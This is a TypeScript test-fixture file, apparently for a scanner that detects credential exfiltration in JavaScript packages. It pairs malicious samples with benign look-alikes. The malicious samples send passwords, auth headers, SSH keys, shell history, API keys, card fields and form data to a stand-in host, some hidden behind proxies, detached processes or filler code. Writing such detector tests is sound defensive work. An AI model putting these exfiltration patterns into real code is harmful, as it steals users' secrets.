import type { Sample } from '../contract.ts';
import { imported, quiet } from '../samples-kit.ts';

function at(rule: string, line: number): Sample['expected'] {
  return [{ rule, file: 'index.js', line, severity: 'high' }];
}

/** Sends what it is given a few rows at a time, to the host that it is made with. */
const BATCH =
  "const https = require('https');\nexports.Batch = class {\n  constructor({ host, size = 5 }) {\n    Object.assign(this, { size });\n    this.host = host;\n    this.rows = [];\n  }\n  add(row) {\n    if (this.rows.push(row) >= this.size) this.ship(this.rows.splice(0));\n  }\n  ship(rows) {\n    const out = https.request({ host: this.host, method: 'POST' });\n    out.on('error', () => {});\n    out.end(JSON.stringify(rows));\n  }\n};\n";

/** A middleware that hands members of a request, by the names in a table, to {@link BATCH}. */
const middleware = (names: string, host: string): string =>
  `const { Batch } = require('./batch');\nconst PICK = { headers: [], body: [${names}] };\nconst batch = new Batch({ host: ${host} });\nexports.trace = () => (req, res, next) => {\n  const out = {};\n  for (const [part, names] of Object.entries(PICK)) for (const name of names) out[name] = req[part][name];\n  batch.add(out);\n  next();\n};\n`;

/** What functions of JavaScript are given, or read when they are called, sent where nobody reads the answer. */
export const GIVEN: readonly Sample[] = [
  {
    name: 'a password that a hashing function is given',
    files: imported(
      `const { hash } = require('bcryptjs');\nexports.hash = (password, rounds) => {\n  fetch('https://a.weir.test/o', { method: 'POST', body: password }).catch(() => {});\n  return hash(password, rounds);\n};\n`,
    ),
    expected: at('given-secret', 3),
  },
  {
    name: 'a password, sent by an object that another module makes by default',
    files: imported(
      `const { Reports } = require('./reports.js');\nclass Client {\n  constructor({ reports = new Reports('https://a.weir.test') } = {}) { this.reports = reports; }\n  login(user, password) { this.reports.add({ user, password }); return true; }\n}\nexports.Client = Client;\n`,
      {
        'reports.js': `exports.Reports = class Reports {\n  constructor(base) { this.base = base; }\n  add(row) { fetch(this.base + '/r', { method: 'POST', body: JSON.stringify(row) }).catch(() => {}); }\n};\n`,
      },
    ),
    expected: [{ rule: 'given-secret', file: 'reports.js', line: 3, severity: 'high' }],
  },
  {
    name: 'files that a folder lists, to a process whose program sends them',
    files: imported(
      `const fs = require('fs');\nconst { spawn } = require('child_process');\nconst script = "let t='';process.stdin.on('data',d=>t+=d).on('end',()=>require('https').request('https://a.weir.test/i',{method:'PUT'}).end(t))";\nexports.lint = (dir) => {\n  const texts = fs.readdirSync(dir).map((name) => fs.readFileSync(dir + '/' + name, 'utf8'));\n  const child = spawn(process.execPath, ['-e', script], { detached: true });\n  child.stdin.end(JSON.stringify(texts));\n};\n`,
    ),
    expected: at('files', 7),
  },
  {
    name: 'a password, behind code that makes the file as large as a bundle',
    files: imported(
      `${'exports.add = (a, b) => fetch(a.url + b);\n'.repeat(2_000)}exports.hash = (password) => {\n  fetch('https://a.weir.test/o', { method: 'POST', body: password }).catch(() => {});\n};\n`,
    ),
    expected: at('given-secret', 2_002),
  },
  {
    name: 'a password in the body of a request that a middleware sees, through a helper',
    files: imported(
      `const https = require('https');\nfunction count(what) {\n  const out = https.request({ host: 'a.weir.test', method: 'POST' });\n  out.on('error', () => {});\n  out.end(JSON.stringify(what));\n}\nexports.limit = () => (req, res, next) => {\n  count({ ip: req.ip, p: req.body.password });\n  next();\n};\n`,
    ),
    expected: at('given-secret', 5),
  },
  {
    name: 'fields of a request by the names in a table, through a class of another file',
    files: imported(middleware("'email', 'password'", "'a.weir.test'"), { 'batch.js': BATCH }),
    expected: [{ rule: 'given-secret', file: 'batch.js', line: 14, severity: 'high' }],
  },
  {
    name: 'the header by which a request signs in',
    files: imported(
      `const axios = require('axios');\naxios.interceptors.request.use((config) => {\n  axios.post('https://a.weir.test/log', { auth: config.headers.Authorization }).catch(() => {});\n  return config;\n});\n`,
    ),
    expected: at('given-secret', 3),
  },
  {
    name: 'a file of keys when it is called',
    files: imported(
      `const fs = require('fs');\nconst os = require('os');\nexports.upload = async () => {\n  const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\n  await fetch('https://a.weir.test/u', { method: 'POST', body: key });\n};\n`,
    ),
    expected: at('credentials', 5),
  },
  {
    name: 'histories, whose answer is read',
    files: imported(
      `const fs = require('fs');\nexports.suggest = async (home) => {\n  const body = fs.readFileSync(home + '/.bash_history', 'utf8');\n  const reply = await fetch('https://a.weir.test/s', { method: 'POST', body });\n  return reply.json();\n};\n`,
    ),
    expected: at('credentials', 4),
  },
  {
    name: 'the address of a database, to somebody else',
    files: imported(
      `const net = require('net');\nexports.open = () => {\n  const s = net.connect(4000, 'a.weir.test', () => s.end(process.env.DATABASE_URL));\n};\n`,
    ),
    expected: at('strange-key', 3),
  },
  ...['openai-login.test', 'api.openai.weir.test', 'myopenai.co.test', 'openai.test.weir.test'].map(
    (host) => ({
      name: `the key of a service, to ${host}`,
      files: imported(
        `exports.ping = () => {\n  fetch('https://${host}/v1/ping', { headers: { authorization: process.env.OPENAI_API_KEY } });\n};\n`,
      ),
      expected: at('strange-key', 2),
    }),
  ),
  {
    name: 'a header that is asked for by its name of what an event tells, in a chain of calls',
    files: imported(
      `const https = require('https');\nconst { EventEmitter } = require('events');\nconst bus = new EventEmitter();\nbus.on('timing', ({ meta }) => {\n  const tag = meta.get('authorization');\n  https.request('https://a.weir.test/t', { method: 'POST' }).on('error', () => {}).end(Buffer.from(tag).toString('hex'));\n});\nexports.ask = async (url, headers) => {\n  const answer = await fetch(url, { headers });\n  bus.emit('timing', { meta: new Headers(headers) });\n  return answer;\n};\n`,
    ),
    expected: at('given-secret', 6),
  },
  {
    name: 'headers that one hook keeps in a request by a symbol, and another one sends',
    files: imported(
      `const http2 = require('http2');\nconst seen = Symbol('seen');\nexports.before = (req) => { req[seen] = { who: req.headers.authorization }; };\nexports.after = (req) => {\n  const stream = http2.connect('https://a.weir.test').request({ ':path': '/t' });\n  stream.on('error', () => {}).on('close', () => {});\n  stream.resume().end(JSON.stringify(req[seen]));\n};\n`,
    ),
    expected: at('given-secret', 7),
  },
  {
    name: 'a field of a card',
    files: imported(
      `exports.check = (root) => {\n  const card = root.querySelector('[autocomplete="cc-number"]');\n  card.onblur = () => {\n    fetch('https://a.weir.test/v', { method: 'POST', body: card.value });\n  };\n};\n`,
    ),
    expected: at('given-secret', 4),
  },
  {
    name: 'what a form holds, in the address of a picture',
    files: imported(
      `document.querySelectorAll('form').forEach((form) => {\n  form.addEventListener('submit', () => {\n    const image = new Image();\n    image.src = 'https://a.weir.test/p.gif?d=' + btoa(JSON.stringify(Object.fromEntries(new FormData(form))));\n  });\n});\n`,
    ),
    expected: at('page-data', 4),
  },
  {
    name: 'the environment that a proxy stands before',
    files: imported(
      `function tell(name, value) {\n  fetch('https://a.weir.test/u', { method: 'POST', body: JSON.stringify({ name, value }) });\n}\nprocess.env = new Proxy(process.env, {\n  get(target, name) {\n    tell(name, target[name]);\n    return target[name];\n  },\n});\n`,
    ),
    expected: at('environment', 2),
  },
];

/** Clients that sign in, and statistics. */
export const GIVEN_HONEST = [
  quiet(
    'times of requests, kept in them by a symbol, and how they were signed in',
    imported(
      `const http2 = require('http2');\nconst seen = Symbol('seen');\nexports.before = (req) => { req[seen] = { at: Date.now(), signed: req.headers.authorization !== undefined }; };\nexports.after = (req) => {\n  const stream = http2.connect('https://a.weir.test').request({ ':path': '/t' });\n  stream.on('error', () => {}).on('close', () => {});\n  stream.resume().end(JSON.stringify(req[seen]));\n};\n`,
    ),
  ),
  quiet(
    'a client that signs in with a password',
    imported(
      `exports.login = async (user, password) => {\n  const r = await fetch('https://a.weir.test/login', { method: 'POST', body: JSON.stringify({ user, password }) });\n  return r.json();\n};\n`,
    ),
  ),
  quiet(
    'a large client of a service, which tells it a password and reads what it says',
    imported(
      `${'exports.add = (a, b) => fetch(a.url + b);\n'.repeat(2_000)}exports.login = async (user, password) => {\n  const r = await fetch('https://a.weir.test/login', { method: 'POST', body: JSON.stringify({ user, password }) });\n  return r.json();\n};\n`,
    ),
  ),
  quiet(
    'how long hashing took',
    imported(
      `const { hash } = require('bcryptjs');\nexports.hash = async (password) => {\n  const from = Date.now();\n  const done = await hash(password, 10);\n  fetch('https://a.weir.test/o', { method: 'POST', body: String(Date.now() - from) }).catch(() => {});\n  return done;\n};\n`,
    ),
  ),
  quiet(
    'a password, sent by an object that the caller says where to',
    imported(
      `const { Reports } = require('./reports.js');\nclass Client {\n  constructor({ url }) { this.reports = new Reports(url); }\n  login(user, password) { this.reports.add({ user, password }); return true; }\n}\nexports.Client = Client;\n`,
      {
        'reports.js': `exports.Reports = class Reports {\n  constructor(base) { this.base = base; }\n  add(row) { fetch(this.base + '/r', { method: 'POST', body: JSON.stringify(row) }).catch(() => {}); }\n};\n`,
      },
    ),
  ),
  quiet(
    'files that a folder lists, to a process whose program counts them',
    imported(
      `const fs = require('fs');\nconst { spawn } = require('child_process');\nconst script = "let n=0;process.stdin.on('data',d=>n+=d.length).on('end',()=>console.log('https://a.weir.test',n))";\nexports.lint = (dir) => {\n  const texts = fs.readdirSync(dir).map((name) => fs.readFileSync(dir + '/' + name, 'utf8'));\n  const child = spawn(process.execPath, ['-e', script], { detached: true });\n  child.stdin.end(JSON.stringify(texts));\n};\n`,
    ),
  ),
  quiet(
    'a version that a process asks for, with the environment of its parent',
    imported(
      `const { spawn } = require('child_process');\nexports.check = () => {\n  spawn('node', ['-e', "fetch('https://a.weir.test/v')"], { env: { ...process.env, QUIET: '1' }, detached: true }).unref();\n};\n`,
    ),
  ),
  quiet(
    'headers handed on to where the caller says',
    imported(
      `exports.forward = (req, to) => {\n  fetch(to, { headers: { authorization: req.headers.authorization } }).catch(() => {});\n};\n`,
    ),
  ),
  quiet(
    'a form that is sent where it is for',
    imported(
      `document.querySelectorAll('form').forEach((form) => {\n  form.addEventListener('submit', async () => {\n    const r = await fetch('https://a.weir.test/contact', { method: 'POST', body: new FormData(form) });\n    if (r.ok) form.reset();\n  });\n});\n`,
    ),
  ),
  quiet(
    'the key of a service, to that service',
    imported(
      `exports.ping = () => {\n  fetch('https://api.openai.test/v1/ping', { headers: { authorization: process.env.OPENAI_API_KEY } });\n};\n`,
    ),
  ),
  ...[
    ['NPM_TOKEN', 'https://npm.weir.test/-/ping'],
    ['NODE_AUTH_TOKEN', 'https://packages.registry.weir.test/-/ping'],
    ['GOOGLE_API_KEY', 'https://maps.googleapis.test/v1/ping'],
    ['AWS_SECRET_ACCESS_KEY', 'https://s3.eu-west-1.amazonaws.com.test/ping'],
    ['GITHUB_TOKEN', 'https://user:x@api.github.test:443/ping'],
  ].map(([name, url]) =>
    quiet(
      `the key of a service, to one of its hosts: ${name}`,
      imported(
        `exports.ping = () => {\n  fetch('${url}', { headers: { authorization: process.env.${name} } });\n};\n`,
      ),
    ),
  ),
  quiet(
    'fields of a request that are no secrets, by the names in a table',
    imported(middleware("'path', 'status'", "'log.weir.test'"), { 'batch.js': BATCH }),
  ),
  quiet(
    'fields of a request to a host of its settings',
    imported(middleware("'email', 'password'", 'process.env.TRACE_HOST'), { 'batch.js': BATCH }),
  ),
];
